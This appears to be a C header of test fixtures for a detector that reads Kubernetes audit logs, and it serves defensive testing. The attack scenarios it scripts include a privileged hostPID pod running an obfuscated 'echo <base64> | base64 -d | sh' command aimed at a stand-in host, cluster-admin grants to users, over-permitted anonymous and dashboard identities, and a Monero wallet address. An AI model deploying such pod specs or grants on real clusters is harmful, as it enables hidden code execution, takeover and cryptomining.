/*
 * For the tests of this room: what is done in a cluster as a table of steps, run in every order and
 * twice over, and what is told of it.
 */
#ifndef DAVY_DETECT_CLUSTER_AUDIT_STORY_H
#define DAVY_DETECT_CLUSTER_AUDIT_STORY_H

#include "base/buf.h"
#include "detect/record_detector.h"

enum { HOUR = 3600, DAY = 86400, STEPS_MAX = 24, ACTS_MAX = 512, NODES = 512, TOLD_MAX = 32 };

/* One act, or `times` of them with %d in the name counted up, `every` seconds. JSON with '. */
struct step {
	int at;
	const char *user, *from, *verb, *what; /* "pods", "pods/exec" */
	const char *namespace, *name, *request, *response, *uri, *why, *as;
	int times, every;
	enum record_outcome outcome; /* UNKNOWN: done */
	const char *cluster, *agent;
};

struct story {
	const char *name;
	struct step steps[STEPS_MAX];
	const char *told; /* "verdict doing" sorted, with "; " between */
};

/* An act made of a step, with its texts. */
struct act_text {
	char name[128], request[4096], response[4096], whole[1024], id[64];
	struct json_node nodes[3][NODES];
	struct json docs[3];
	struct record record;
	struct str group;
};

struct told {
	struct record_teller teller;
	char *lines[TOLD_MAX];
	char brief[TOLD_MAX][128];
	int count;
};

/* A story's acts in some order. */
enum way { IN_ORDER, BACKWARDS, SHUFFLED, TWICE, WAYS };

struct list {
	const struct step *step[ACTS_MAX];
	int number[ACTS_MAX], serial[ACTS_MAX];
	int count;
};

/* number: of the step's `times`; serial: where in the log it stands */
void story_make_act(const struct step *step, int number, int serial, struct act_text *t);
void story_unfold(const struct story *story, struct list *list);
void story_observe_all(void *state, const struct list *list);

/* All findings, sorted, a line each; the caller frees them. */
struct buf story_report(void *state, struct told *told);
/* "verdict doing; verdict doing", sorted: what a story's `told` is compared with. */
struct str story_brief(struct told *told, char *out, size_t cap);

struct buf story_run(const struct story *story, enum way way, uint32_t seed, struct told *told);
/* Each in six orders; fails with the name of the story that is told otherwise. */
void stories_run(const struct story *stories, size_t count);

/* -- what is asked of the API server -- */

#define POD(spec)	     "{'kind':'Pod','spec':{" spec "}}"
#define TEMPLATE(kind, spec) "{'kind':'" kind "','spec':{'template':{'spec':{" spec "}}}}"
#define CRON(spec) \
	"{'kind':'CronJob','spec':{'jobTemplate':{'spec':{'template':{'spec':{" spec "}}}}}}"
#define NOTHING_SAID "'containers':[{'image':'registry.example.net/web:1'}]"
#define HIDDEN                                                                                   \
	"'tolerations':[{'operator':'Exists'}],'hostPID':true,'containers':[{'image':"           \
	"'registry.example.net/node-agent:2','securityContext':{'privileged':true},'resources':" \
	"{'limits':{'cpu':'500m'}},'command':['/bin/sh','-c','echo "                             \
	"L3Vzci9sb2NhbC9iaW4vYWdlbnQgLS1"                                                        \
	"1cHN0cmVhbSBlZGdlLmV4YW1wbGUtY2RuLm5ldDo4NDQz | base64 -d | sh']}]"
#define AGENT(image)                                                                              \
	"'tolerations':[{'operator':'Exists'}],'hostNetwork':true,'hostPID':true,'"               \
	"priorityClassName'"                                                                      \
	":'system-node-critical','volumes':[{'hostPath':{'path':'/proc'}},{'hostPath':{'path':'/" \
	"'}}"                                                                                     \
	"],'initContainers':[{'image':'" image                                                    \
	"','command':['sh','-c','mount | grep bpf || mount bpf"                                   \
	" /sys/fs/bpf -t bpf']}],'containers':[{'image':'" image                                  \
	"','securityContext':{'privileged'"                                                       \
	":true},'resources':{'limits':{'cpu':'200m'}},'args':['--config','/etc/agent.yaml']}]"
#define GRANT(to)                                                                              \
	"{'roleRef':{'kind':'ClusterRole','name':'cluster-admin'},'subjects':[{'kind':'User'," \
	"'name':'" to "'}]}"

#define NOBODY	"system:anonymous"
#define CONSOLE "system:serviceaccount:kubernetes-dashboard:kubernetes-dashboard"
#define WEB	"system:serviceaccount:shop:web"
#define ALL_OF(who)                                                                              \
	"RBAC: allowed by ClusterRoleBinding \\\"open\\\" of ClusterRole \\\"cluster-admin\\\" " \
	"to " who

/* Monero's general fund: an address with a right checksum. */
#define WALLET                                                                                     \
	"888tNkZrPN6JsEgekjMnABU4TBzc2Dt29EPAvkRxbANsAnjyPbb3iQ1YBRk1UXcdRsiKc9dhwMVgN5S9cQUiyoog" \
	"D"                                                                                        \
	"avup3H"

#endif
